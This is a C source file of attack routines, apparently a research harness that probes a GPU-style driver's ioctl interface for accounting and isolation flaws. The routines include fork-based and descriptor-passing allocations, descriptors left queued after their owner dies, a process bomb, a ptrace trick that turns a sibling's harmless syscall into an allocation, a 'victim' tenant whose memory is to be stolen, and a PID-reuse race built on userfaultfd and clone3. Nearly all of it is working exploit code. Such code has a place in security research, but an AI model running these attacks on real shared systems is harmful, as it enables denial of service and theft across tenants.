/* Allocation by others: children, siblings with a passed descriptor, processes that ended. */
#include "attack.h"

#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>

/* Parent and child allocate on one open file. */
void attack_child (int argc, char **argv)
{
    struct bed bed = bed_open ();
    uint32_t handle;

    (void) argc, (void) argv;
    say ("parent", bed_memory (&bed, &handle, GIB));
    pid_t child = fork ();
    if (child == 0) {
        bed.next = 0x5e000000;
        say ("child", bed_fill (&bed));
        _exit (0);
    }
    waitpid (child, NULL, 0);
    say ("ended", 0);
    hold ();
}

/* A sibling gets the descriptor over a socket and allocates with it. */
void attack_passed (int argc, char **argv)
{
    int pair[2];

    (void) argc, (void) argv;
    if (socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0)
        exit (4);
    pid_t child = fork ();
    if (child == 0) {
        struct bed got = {
            .device = 0x5c000001, .subdevice = 0x5c000002, .next = 0x5e000000, .file = receive_descriptor (pair[1])
        };

        if (read (pair[1], &got.client, 4) != 4)
            _exit (5);
        say ("sibling", bed_fill (&got));
        _exit (0);
    }
    struct bed bed = bed_open ();
    send_descriptor (pair[0], bed.file);
    if (write (pair[0], &bed.client, 4) != 4)
        exit (4);
    waitpid (child, NULL, 0);
    say ("ended", 0);
    hold ();
}

/* The process that allocated is dead; its open file lies in a socket's queue. */
void attack_queued (int argc, char **argv)
{
    int pair[2], told[2];
    char byte;

    (void) argc, (void) argv;
    if (socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0 || pipe (told) != 0)
        exit (4);
    if (fork () == 0) {
        struct bed bed = bed_open ();
        uint32_t handle;

        say ("memory", bed_memory (&bed, &handle, 8 * GIB));
        send_descriptor (pair[0], bed.file);
        _exit (0);
    }
    close (told[1]);
    if (read (told[0], &byte, 1) != 0) /* the end of the child */
        exit (4);
    say ("queued", 0);
    hold ();
    struct bed bed = bed_open ();
    say ("pieces", bed_fill (&bed));
    hold ();
    close (bed.file);
    close (bed.node);
    close (pair[0]);
    close (pair[1]);
    say ("closed", 0);
    hold ();
}

void attack_exec (int argc, char **argv)
{
    struct bed bed = { .device = 0x5c000001, .subdevice = 0x5c000002, .next = 0x5e000000 };
    char file[16], client[16];
    uint32_t handle;

    if (argc >= 2) {
        bed.file = atoi (argv[0]);
        bed.client = (uint32_t) strtoul (argv[1], NULL, 0);
        say ("after", bed_fill (&bed));
        hold ();
        return;
    }
    bed = bed_open ();
    say ("before", bed_memory (&bed, &handle, 2 * GIB));
    snprintf (file, sizeof (file), "%d", bed.file);
    snprintf (client, sizeof (client), "%u", bed.client);
    execl ("/proc/self/exe", "attack", "exec", file, client, (char *) NULL);
}

/* bomb PROCESSES CLIENTS */
void attack_bomb (int argc, char **argv)
{
    int processes = argc > 0 ? atoi (argv[0]) : 100, clients = argc > 1 ? atoi (argv[1]) : 4;
    unsigned bad = 0;

    for (int i = 0; i < processes; i += 10) {
        pid_t children[10];

        for (int k = 0; k < 10; k++)
            if ((children[k] = fork ()) == 0) {
                for (int n = 0; n < clients; n++) {
                    struct bed bed = bed_open ();
                    uint32_t handle;

                    bed_memory (&bed, &handle, 16 * MIB);
                }
                _exit (0);
            }
        for (int k = 0; k < 10; k++) {
            int status = 1;

            bad += children[k] < 0 || waitpid (children[k], &status, 0) < 0 || status != 0;
        }
    }
    say ("bad", bad);
    hold ();
}

/* A tracer makes a sibling's harmless system call an allocation, after it was entered. */
void attack_traced (int argc, char **argv)
{
    struct bed bed = bed_open ();
    static struct memory params;
    static struct alloc call;
    int status;

    (void) argc, (void) argv;
    params = memory_of (20 * GIB);
    call = (struct alloc) { bed.client, bed.device, 0x5e000000, 0x40, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
    pid_t child = fork ();
    if (child == 0) {
        ptrace (PTRACE_TRACEME, 0, NULL, NULL);
        raise (19);
        syscall (SYS_getppid);
        printf ("status=%u\n", call.status);
        fflush (stdout);
        _exit (0);
    }
    waitpid (child, &status, 0);
    for (bool changed = false; ptrace (PTRACE_SYSCALL, child, NULL, NULL) == 0 && waitpid (child, &status, 0) == child;) {
        struct user_regs_struct registers;

        if (WIFEXITED (status) || WIFSIGNALED (status))
            break;
        ptrace (PTRACE_GETREGS, child, NULL, &registers);
        if (!changed && registers.orig_rax == SYS_getppid) {
            registers.orig_rax = SYS_ioctl;
            registers.rdi = (unsigned long) bed.file;
            registers.rsi = REQUEST (0x2b, 48);
            registers.rdx = (uintptr_t) &call;
            ptrace (PTRACE_SETREGS, child, NULL, &registers);
            changed = true;
        }
    }
    say ("done", 0);
}

/* A tenant with memory to be stolen. */
void attack_victim (int argc, char **argv)
{
    struct bed bed = bed_open ();
    uint32_t handle;

    (void) argc, (void) argv;
    say ("memory", bed_memory (&bed, &handle, 2 * GIB));
    say ("client", bed.client);
    say ("handle", handle);
    hold ();
    say ("freed", bed_free (&bed, handle));
}

/* reused: a child makes a call whose struct does not come until the child is dead and another process has its number. Is what
 * the driver answers written to that one? Without the rights for this trick there is no other process. */
void attack_reused (int argc, char **argv)
{
    struct bed bed = bed_open ();
    uint8_t *pages = mmap (NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uint32_t *params = (uint32_t *) (void *) (pages + 4096);
    struct control call = { bed.client, bed.subdevice, 0x2080014a, 0, (uintptr_t) params, 268, 0xffff };
    static uint8_t page[4096];
    struct uffdio_copy copy = { (uintptr_t) pages, (uintptr_t) page, sizeof (page), 0, 0 };
    int pair[2], faults, status = 0;

    (void) argc, (void) argv;
    if (pages == MAP_FAILED || socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0)
        exit (4);
    memcpy (page, &call, sizeof (call));
    pid_t child = fork ();
    if (child == 0) {
        struct uffdio_api api = { .api = UFFD_API };
        struct uffdio_register range = { { (uintptr_t) pages, 4096 }, UFFDIO_REGISTER_MODE_MISSING, 0 };

        faults = (int) syscall (SYS_userfaultfd, O_CLOEXEC);
        if (faults >= 0 && (ioctl (faults, UFFDIO_API, &api) != 0 || ioctl (faults, UFFDIO_REGISTER, &range) != 0))
            _exit (4);
        send_descriptor (pair[0], faults >= 0 ? faults : pair[0]);
        ioctl (bed.file, REQUEST (0x2a, sizeof (call)), pages);
        _exit (0);
    }
    faults = receive_descriptor (pair[1]);
    usleep (200000);
    kill (child, SIGKILL);
    waitpid (child, NULL, 0);
    struct clone_args another = { .exit_signal = SIGCHLD, .set_tid = (uintptr_t) &child, .set_tid_size = 1 };
    pid_t stranger = (pid_t) syscall (SYS_clone3, &another, sizeof (another));
    if (stranger == 0) {
        params[1] = 2;
        if (write (pair[0], "x", 1) != 1)
            _exit (5);
        usleep (500000);
        _exit (params[2] != 0);
    }
    if (stranger > 0 && read (pair[1], page + sizeof (call), 1) == 1) {
        ioctl (faults, UFFDIO_COPY, &copy);
        waitpid (stranger, &status, 0);
    }
    say ("written", (uint64_t) status);
    hold ();
}
